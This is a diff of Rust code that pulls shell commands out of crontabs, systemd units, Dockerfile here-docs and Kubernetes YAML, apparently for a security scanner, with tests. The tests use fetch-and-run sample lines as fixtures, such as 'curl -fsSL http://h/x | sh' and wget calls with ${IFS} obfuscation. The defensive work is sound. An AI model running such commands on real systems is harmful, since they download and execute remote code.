@@ -151,9 +151,27 @@ pub fn cron(text: &str, system: bool, is_program: &dyn Fn(&str) -> bool) -> Vec<
     logical_lines(text, '\\')
         .into_iter()
         .filter_map(|(n, l)| {
-            cron_command(&l, system, is_program).map(|c| seg(Lang::Sh, c.replace('%', " "), n))
+            cron_command(&l, system, is_program).map(|c| seg(Lang::Sh, cron_percent(c), n))
         })
         .collect()
+}
+
+/// cron's `%`: `\%` is a `%`; a bare `%` ends the command (what follows is
+/// its input, read here as more words).
+fn cron_percent(c: &str) -> String {
+    let mut out = String::with_capacity(c.len());
+    let mut chars = c.chars().peekable();
+    while let Some(ch) = chars.next() {
+        match ch {
+            '\\' if chars.peek() == Some(&'%') => {
+                out.push('%');
+                chars.next();
+            }
+            '%' => out.push(' '),
+            ch => out.push(ch),
+        }
+    }
+    out
 }
 
 /// systemd unit or drop-in: `Exec*=` values (`-`, `@`, `+`, `!`, `:`
@@ -184,6 +202,8 @@ pub fn unit(text: &str) -> Vec<Segment> {
             if k == "Environment" {
                 return Some(seg(Lang::Sh, format!("export {v}"), n));
             }
+            // systemd's own escapes: `$$` is a `$`, `%%` a `%`.
+            let v = v.replace("$$", "$").replace("%%", "%");
             k.starts_with("Exec").then(|| {
                 seg(
                     Lang::Sh,
@@ -291,6 +311,37 @@ pub fn dockerfile(text: &str) -> Vec<Segment> {
     out
 }
 
+/// Files a Dockerfile writes from a here-doc (`COPY <<EOF /etc/cron.d/x`,
+/// `ADD --chmod=755 <<X /usr/local/bin/`): (destination path, body, line
+/// of the body's first line). A destination ending in `/` is a directory:
+/// the file is named by the delimiter.
+pub fn dockerfile_files(text: &str) -> Vec<(String, String, usize)> {
+    let (_, heredocs) = dockerfile_heredocs(text);
+    let mut out = Vec::new();
+    for (i, l) in text.lines().enumerate() {
+        let mut words = l.split_whitespace();
+        let kw = words.next().unwrap_or_default();
+        if !(kw.eq_ignore_ascii_case("COPY") || kw.eq_ignore_ascii_case("ADD")) {
+            continue;
+        }
+        let Some((delim, body)) = heredocs.get(&(i + 1)) else {
+            continue;
+        };
+        let words: Vec<&str> = words.filter(|w| !w.starts_with("--")).collect();
+        let Some(dest) = words.last().filter(|d| !d.starts_with("<<")) else {
+            continue;
+        };
+        let dest = dest.trim_matches(['"', '\'']);
+        let dest = if dest.ends_with('/') {
+            format!("{dest}{delim}")
+        } else {
+            dest.to_string()
+        };
+        out.push((dest, body.clone(), i + 2));
+    }
+    out
+}
+
 /// The command of a `RUN`/`CMD`/`ENTRYPOINT`/`HEALTHCHECK CMD` at line
 /// `n`: shell or exec form, or its here-doc (`(delimiter, body)`).
 fn run_segment(
@@ -355,14 +406,15 @@ fn dockerfile_heredocs(text: &str) -> (String, std::collections::HashMap<usize, 
     while i < lines.len() {
         kept.push(lines[i]);
         let t = lines[i].trim_start();
-        let is_run = t.get(..4).is_some_and(|k| k.eq_ignore_ascii_case("RUN "))
-            || t.get(..7)
-                .is_some_and(|k| k.eq_ignore_ascii_case("ONBUILD"));
+        let is_run = ["RUN ", "ONBUILD", "COPY ", "ADD "].iter().any(|kw| {
+            t.get(..kw.len())
+                .is_some_and(|k| k.eq_ignore_ascii_case(kw))
+        });
         let delim = t.split_once("<<").filter(|_| is_run).map(|(_, d)| {
             d.trim_start_matches('-')
                 .trim_start_matches(['\'', '"'])
                 .chars()
-                .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
+                .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-'))
                 .collect::<String>()
         });
         i += 1;
@@ -660,7 +712,14 @@ fn shell_words(items: &[String]) -> String {
 pub fn yaml(text: &str) -> Vec<Segment> {
     let lines: Vec<&str> = text.lines().collect();
     let mut out = yaml_commands(&lines);
+    out.extend(command_with_args(&lines));
     let env = k8s_env(&lines);
+    // Kubernetes and compose escape a `$` as `$$` (`$$(cmd)` is the shell's).
+    for s in &mut out {
+        if s.text.contains("$$") {
+            s.text = s.text.replace("$$", "$");
+        }
+    }
     if !env.is_empty() {
         for s in &mut out {
             for (name, value) in &env {
@@ -724,7 +783,7 @@ fn yaml_commands(lines: &[&str]) -> Vec<Segment> {
             let (value, next) = flow_lines(lines, i, value);
             i = next;
             if let Some(items) = yaml_flow(&value) {
-                push_items(&items, line_no, &mut out);
+                push_items(&items, &[line_no], &mut out);
             }
         } else if value.starts_with('|') || value.starts_with('>') {
             let (body, next) = block(lines, i, base);
@@ -733,7 +792,7 @@ fn yaml_commands(lines: &[&str]) -> Vec<Segment> {
         } else if value.is_empty() || value.starts_with('#') {
             // Block sequence of items.
             let mut items = Vec::new();
-            let mut first = i + 1;
+            let mut item_lines = Vec::new();
             while i < lines.len() {
                 let li = lines[i];
                 if li.trim().is_empty() {
@@ -748,9 +807,7 @@ fn yaml_commands(lines: &[&str]) -> Vec<Segment> {
                     break;
                 }
                 let item = it[1..].trim();
-                if items.is_empty() {
-                    first = i + 1;
-                }
+                item_lines.push(i + 1);
                 if item.starts_with('|') || item.starts_with('>') {
                     let (body, next) = block(lines, i + 1, indent(li));
                     out.push(seg(Lang::Sh, body.clone(), i + 2));
@@ -762,13 +819,117 @@ fn yaml_commands(lines: &[&str]) -> Vec<Segment> {
                 }
             }
             if !items.is_empty() {
-                push_items(&items, first, &mut out);
+                push_items(&items, &item_lines, &mut out);
             }
         } else {
             out.push(seg(Lang::Sh, yaml_scalar(value), line_no));
         }
     }
     out
+}
+
+/// The column of a line's mapping key (past a `- ` item marker) and the key.
+fn yaml_key(l: &str) -> Option<(usize, &str)> {
+    let t = l.trim_start();
+    let col = l.len() - t.len();
+    let (col, t) = match t.strip_prefix("- ") {
+        Some(r) => (col + 2 + (r.len() - r.trim_start().len()), r.trim_start()),
+        None => (col, t),
+    };
+    let (key, _) = t.split_once(':')?;
+    Some((col, key.trim().trim_matches(['"', '\''])))
+}
+
+/// The items of the sequence a key at line `i` holds (flow `[…]` or a
+/// block of `- item` lines), with their line numbers.
+fn sequence_at(lines: &[&str], i: usize, col: usize) -> Option<(Vec<String>, Vec<usize>)> {
+    let value = lines[i].split_once(':')?.1.trim();
+    if value.starts_with('[') {
+        let (value, _) = flow_lines(lines, i + 1, value);
+        return yaml_flow(&value).map(|items| (items, vec![i + 1]));
+    }
+    if !(value.is_empty() || value.starts_with('#')) {
+        return None;
+    }
+    let (mut items, mut at) = (Vec::new(), Vec::new());
+    for (k, l) in lines.iter().enumerate().skip(i + 1) {
+        let t = l.trim_start();
+        if t.is_empty() {
+            continue;
+        }
+        if l.len() - t.len() < col || !t.starts_with('-') {
+            break;
+        }
+        items.push(yaml_scalar(t[1..].trim()));
+        at.push(k + 1);
+    }
+    (!items.is_empty()).then_some((items, at))
+}
+
+/// A container's `command:` and its sibling `args:` (before or after it,
+/// same mapping): the program and its arguments, run as one command.
+fn command_with_args(lines: &[&str]) -> Vec<Segment> {
+    let mut out = Vec::new();
+    for (i, l) in lines.iter().enumerate() {
+        let Some((col, "command")) = yaml_key(l) else {
+            continue;
+        };
+        let args = sibling_key(lines, i, col, "args");
+        let (Some(args), Some((mut items, mut at))) = (args, sequence_at(lines, i, col)) else {
+            continue;
+        };
+        if let Some((more, more_at)) = sequence_at(lines, args, col) {
+            items.extend(more);
+            at.extend(more_at);
+            push_items(&items, &at, &mut out);
+        }
+    }
+    out
+}
+
+/// Lines of one mapping looked through for a sibling key, each way (a
+/// hostile file of many `command:` keys stays linear).
+const MAX_MAPPING_LINES: usize = 256;
+
+/// The line of `key` in the same mapping as the key at line `i`, column
+/// `col` (the mapping ends at a shallower line or the next `- ` item).
+fn sibling_key(lines: &[&str], i: usize, col: usize, key: &str) -> Option<usize> {
+    let item_start = |l: &str| {
+        let t = l.trim_start();
+        t.starts_with("- ") && l.len() - t.len() + 2 == col
+    };
+    let look = |k: usize| -> (bool, bool) {
+        // (this line is the key, the mapping goes on past it)
+        let l = lines[k];
+        let t = l.trim_start();
+        if t.is_empty() || t.starts_with('#') {
+            return (false, true);
+        }
+        let found = yaml_key(l).is_some_and(|(c, name)| c == col && name == key);
+        (found, l.len() - t.len() >= col || item_start(l))
+    };
+    for (k, l) in lines.iter().enumerate().skip(i + 1).take(MAX_MAPPING_LINES) {
+        if item_start(l) {
+            break;
+        }
+        match look(k) {
+            (true, _) => return Some(k),
+            (false, false) => break,
+            _ => {}
+        }
+    }
+    if item_start(lines[i]) {
+        return None;
+    }
+    for k in (0..i).rev().take(MAX_MAPPING_LINES) {
+        match look(k) {
+            (true, _) => return Some(k),
+            (false, false) => break,
+            _ if item_start(lines[k]) => break,
+            _ => {}
+        }
+    }
+    None
 }
 
 /// A flow sequence that goes on over the next lines (`command: ["scp",`
@@ -788,11 +949,18 @@ fn flow_lines(lines: &[&str], from: usize, first: &str) -> (String, usize) {
     }
 }
 
-fn push_items(items: &[String], line: usize, out: &mut Vec<Segment>) {
-    out.push(seg(Lang::Sh, shell_words(items), line));
-    for it in items {
-        if it.contains(' ') {
-            out.push(seg(Lang::Sh, it.clone(), line));
+/// The items of a sequence (each with its line) as one command, reported
+/// at the line of its script item when it has one (`- -c` then `- curl …`).
+fn push_items(items: &[String], lines: &[usize], out: &mut Vec<Segment>) {
+    // An item that is shell text of its own (a `sh -c` script): with a
+    // blank, or words joined by `${IFS}` or a `;`/`|`/`&`.
+    let script = |it: &String| it.contains([' ', ';', '|', '&']) || it.contains("IFS");
+    let at = |k: usize| lines.get(k).or(lines.last()).copied().unwrap_or(1);
+    let main = items.iter().position(script).unwrap_or(0);
+    out.push(seg(Lang::Sh, shell_words(items), at(main)));
+    for (k, it) in items.iter().enumerate() {
+        if script(it) {
+            out.push(seg(Lang::Sh, it.clone(), at(k)));
         }
     }
 }
@@ -818,6 +986,30 @@ mod tests {
     use super::*;
 
     #[test]
+    fn yaml_sequence_items_keep_their_lines() {
+        let y = yaml("command:\n  - /bin/sh\n  - -c\n  - curl -fsSL http://h/x | sh\n");
+        assert!(
+            y.iter().all(|s| s.line == 4),
+            "{:?}",
+            y.iter().map(|s| s.line).collect::<Vec<_>>()
+        );
+    }
+
+    #[test]
+    fn carrier_escapes_are_undone() {
+        let c = cron("* * * * * root printf '\\%s' x | sh\n", true, &|_| false);
+        assert_eq!(c[0].text, "printf '%s' x | sh");
+        let u = unit("[Service]\nExecStart=/bin/sh -c \"wget$${IFS}-q http://h/x 100%%\"\n");
+        assert_eq!(u[0].text, "/bin/sh -c \"wget${IFS}-q http://h/x 100%\"");
+        let y = yaml("args: [\"echo $$(id)\"]\n");
+        assert!(
+            y.iter().any(|s| s.text == "echo $(id)"),
+            "{:?}",
+            y.iter().map(|s| &s.text).collect::<Vec<_>>()
+        );
+    }
+
+    #[test]
     fn cron_fields() {
         let p = |w: &str| w == "curl" || w == "wget";
         assert_eq!(
@@ -840,6 +1032,30 @@ mod tests {
         );
         assert!(looks_like_crontab("# m h\n*/15 * * * * wget -q x\n"));
         assert!(!looks_like_crontab("Some text\n1 2 3 4 5 6\n"));
+    }
+
+    #[test]
+    fn dockerfile_heredoc_files() {
+        let df = "FROM x\nCOPY --chmod=644 <<EOF /etc/cron.d/job\n* * * * * root true\nEOF\n\
+                  ADD <<fetch.sh /usr/local/bin/\necho hi\nfetch.sh\nCOPY <<EOF\nno dest\nEOF\n";
+        let files = dockerfile_files(df);
+        assert_eq!(
+            files,
+            vec![
+                (
+                    "/etc/cron.d/job".to_string(),
+                    "* * * * * root true\n".to_string(),
+                    3
+                ),
+                (
+                    "/usr/local/bin/fetch.sh".to_string(),
+                    "echo hi\n".to_string(),
+                    6
+                ),
+            ]
+        );
+        // the files are not build steps
+        assert!(dockerfile(df).iter().all(|s| !s.text.contains("root true")));
     }
 
     #[test]
@@ -895,6 +1111,19 @@ mod tests {
                 ("python3 - <<'__MAKE_RECIPE__'\ntrue\n__MAKE_RECIPE__\n", 7),
             ]
         );
+    }
+
+    #[test]
+    fn container_command_and_args_are_one_command() {
+        let y = "containers:\n  - name: a\n    command: [\"wget\"]\n    args:\n      - -O\n      - /x\n      - http://203.0.113.9/p\n  - name: b\n    args: [\"-c\", \"true\"]\n    command:\n      - sh\n";
+        let segs = yaml(y);
+        assert!(
+            segs.iter()
+                .any(|s| s.text == "'wget' '-O' '/x' 'http://203.0.113.9/p'")
+        );
+        assert!(segs.iter().any(|s| s.text == "'sh' '-c' 'true'"));
+        // a's args are not b's
+        assert!(!segs.iter().any(|s| s.text.starts_with("'sh' '-O'")));
     }
 
     #[test]
